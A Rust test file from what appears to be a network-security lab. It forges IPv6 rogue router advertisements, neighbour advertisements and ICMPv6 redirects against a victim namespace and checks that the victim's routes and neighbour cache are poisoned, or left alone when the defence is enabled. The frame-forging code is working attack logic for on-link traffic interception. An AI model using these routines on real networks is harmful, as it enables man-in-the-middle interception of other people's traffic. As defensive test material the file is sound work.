//! IPv6 attacks that work on a kernel without defences.

use std::net::Ipv6Addr;
use std::time::Duration;

use lab::frames::{Ethernet, Icmpv6, Ipv6, Mac, RouterAdvertisement};
use lab::{Netns, eventually};

use crate::wire::{ATTACKER6, FORGED, LINK, TIMEOUT, VICTIM6, Wire};

const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
/// The link-local address of a fake router.
const ROUTER: Ipv6Addr = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xbad);
/// The gateway of redirects.
const GATEWAY: Ipv6Addr = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xcad);

/// Sends a ping and waits for the answer: the victim has processed all earlier frames.
fn ping(wire: &Wire) {
    let mut capture = wire.capture();
    let packet = Ipv6::new(ATTACKER6, VICTIM6).icmp(Icmpv6::echo_request(1, 1, b"mark"));
    wire.send(&wire.ethernet().ipv6(&packet));
    let answer = capture.first(TIMEOUT, |frame| frame.icmp_type() == Some(129));
    assert_eq!(answer.unwrap().ip_source(), Some(VICTIM6.into()));
}

fn advertise(wire: &Wire) {
    let about = RouterAdvertisement {
        router_lifetime: Duration::from_mins(10),
        prefix: Some(("2001:db8:bad::".parse().unwrap(), 64)),
        mac: Some(FORGED),
    };
    let message = Icmpv6::router_advertisement(&about);
    let packet = Ipv6::new(ROUTER, ALL_NODES).icmp(message);
    let ethernet = Ethernet::new(wire.link.mac(), Mac::of_multicast(ALL_NODES));
    wire.send(&ethernet.ipv6(&packet));
}

/// Whether the victim has a default route and an address from the advertisement.
fn has_route_and_address(wire: &Wire) -> (bool, bool) {
    let routes = wire.victim.routes().unwrap();
    let addresses = wire.victim.addresses().unwrap();
    (
        routes
            .iter()
            .any(|route| route.starts_with("default via fe80::bad dev up0 proto ra")),
        addresses
            .iter()
            .any(|address| address.cidr.starts_with("2001:db8:bad:")),
    )
}

#[test]
fn a_router_advertisement_adds_a_route_and_an_address() {
    let wire = Wire::new();
    wire.victim
        .sysctl("net.ipv6.conf.up0.accept_ra", "1")
        .unwrap();
    eventually(TIMEOUT, "the victim accepts it", || {
        advertise(&wire);
        (has_route_and_address(&wire) == (true, true)).then_some(())
    })
    .unwrap();
    let entry = wire.neighbour("fe80::bad");
    assert!(entry.contains(&FORGED.to_string()), "{entry}");
}

#[test]
fn a_router_advertisement_is_ignored_without_accept_ra() {
    let wire = Wire::new();
    wire.victim
        .sysctl("net.ipv6.conf.up0.accept_ra", "0")
        .unwrap();
    advertise(&wire);
    ping(&wire);
    assert_eq!(has_route_and_address(&wire), (false, false));
}

#[test]
fn a_neighbour_solicitation_is_answered() {
    let wire = Wire::new();
    let mut capture = wire.capture();
    let message = Icmpv6::neighbour_solicitation(VICTIM6, wire.link.mac());
    let packet = Ipv6::new(ATTACKER6, VICTIM6).icmp(message);
    wire.send(&wire.ethernet().ipv6(&packet));
    let answer = capture.first(TIMEOUT, |frame| {
        frame.icmp_type() == Some(136) && frame.ip_source() == Some(VICTIM6.into())
    });
    assert_eq!(answer.unwrap().to(), Some(wire.link.mac()));
}

#[test]
fn a_neighbour_advertisement_changes_a_neighbour_entry() {
    let wire = Wire::new();
    wire.victim.ping(&ATTACKER6.to_string()).unwrap();
    let entry = wire.neighbour("2001:db8::1");
    assert!(entry.contains(&wire.link.mac().to_string()), "{entry}");
    let message = Icmpv6::neighbour_advertisement(ATTACKER6, FORGED);
    let packet = Ipv6::new(ATTACKER6, VICTIM6).icmp(message);
    wire.send(&wire.ethernet().ipv6(&packet));
    eventually(TIMEOUT, "the victim accepts it", || {
        let entry = wire.neighbour("2001:db8::1");
        entry.contains(&FORGED.to_string()).then_some(())
    })
    .unwrap();
}

#[test]
fn an_icmpv6_redirect_changes_a_route() {
    let wire = Wire::new();
    let accept = "net.ipv6.conf.up0.accept_redirects";
    wire.victim.sysctl(accept, "1").unwrap();
    let route = ["route", "add", "2001:db8:9::/64", "via", "fe80::bad", "dev"];
    wire.victim.ip(route.iter().chain(&[LINK])).unwrap();
    let far: Ipv6Addr = "2001:db8:9::9".parse().unwrap();
    assert!(wire.route("2001:db8:9::9").contains("via fe80::bad"));
    let sent = Ipv6::new(VICTIM6, far).icmp(Icmpv6::echo_request(1, 1, b"whatever"));
    let message = Icmpv6::redirect(GATEWAY, FORGED, &sent);
    let packet = Ipv6::new(ROUTER, VICTIM6).icmp(message);
    wire.send(&wire.ethernet().ipv6(&packet));
    eventually(TIMEOUT, "the route changes", || {
        let route = wire.route("2001:db8:9::9");
        route.contains("via fe80::cad").then_some(())
    })
    .unwrap();
}
